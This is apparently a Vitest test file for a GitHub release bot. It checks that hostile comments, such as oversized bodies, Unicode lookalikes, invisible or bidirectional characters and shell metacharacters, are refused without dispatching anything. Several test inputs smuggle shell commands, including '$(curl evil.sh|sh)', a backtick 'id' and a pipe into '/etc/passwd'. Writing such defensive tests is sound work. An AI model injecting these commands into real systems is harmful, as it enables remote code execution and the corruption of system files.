// Comments are written by anyone who can comment. Very long bodies, Unicode lookalikes, invisible and
// bidirectional characters and shell metacharacters reach the real handler (in-process Probot) and are refused
// with a reply that says why; nothing is dispatched and no claim is taken.
import { readFileSync } from "node:fs";
import { beforeEach, describe, expect, it } from "vitest";
import type { FakeConversation } from "../support/fake-conversation.js";
import { type ReleaseScenario, releaseScenario } from "../support/scenario.js";

const TAG = "v1.2.0";
const CONFIG = readFileSync(new URL("../fixtures/shipline.yml", import.meta.url), "utf8");

describe("hostile comments", () => {
  let app: ReleaseScenario;
  let gh: FakeConversation;
  const comment = (body: string, login = "bob") => app.comment(body, login);

  beforeEach(async () => {
    app = releaseScenario({ tag: TAG, sha: "a".repeat(40), config: CONFIG, permissions: { bob: "write" } });
    gh = app.gh;
    await app.publish();
    expect(gh.dispatches).toHaveLength(1);
  });

  const refused = (why: string) => {
    const reply = gh.replies().at(-1) ?? "";
    expect(reply).toContain("@bob");
    expect(reply).toContain(why);
    expect(gh.dispatches).toHaveLength(1);
    expect([...gh.refs.keys()].filter((r) => !r.endsWith("staging-rollout-1"))).toEqual([]);
  };

  it("refuses a 1 MB first line without reading it as a command", async () => {
    await comment(`/deploy ${TAG} to canary ${"a".repeat(1_000_000)}`);
    refused("longer than 400 characters");
    expect((gh.replies().at(-1) ?? "").length).toBeLessThan(2_000);
  });

  it("refuses a reason of 100 000 characters", async () => {
    await comment(`/rollback production -- ${"it broke ".repeat(11_000)}`);
    refused("longer than 400 characters");
  });

  it.each([
    ["a Cyrillic е in the command word", "/d\u0435ploy v1.2.0 to canary", "U+0435"],
    ["a fullwidth solidus instead of the slash", "\uFF0Fdeploy v1.2.0 to canary", "looks like a slash"],
    ["a division slash instead of the slash", "\u2215promote", "looks like a slash"],
    ["a Greek ο in the tag", "/deploy v1.2.0 to can\u03BFry", "U+03BF"],
    ["a zero-width space after the command", "/deploy\u200B v1.2.0 to canary", "U+200B"],
    ["a right-to-left override in the tag", "/deploy v1.2.0\u202E to canary", "U+202E"],
    ["command substitution", "/deploy $(curl evil.sh|sh) to canary", "`$`"],
    ["backticks in a reason", "/rollback production -- `id`", "backtick"],
    ["a pipe and redirection", "/deploy v1.2.0|tee /etc/passwd to canary", "`|`"],
    ["a newline smuggled as CR inside the tag", "/deploy v1.2.0\u0085 to canary", "U+0085"],
  ])("refuses %s", async (_, body, why) => {
    await comment(body);
    refused(why);
  });
});
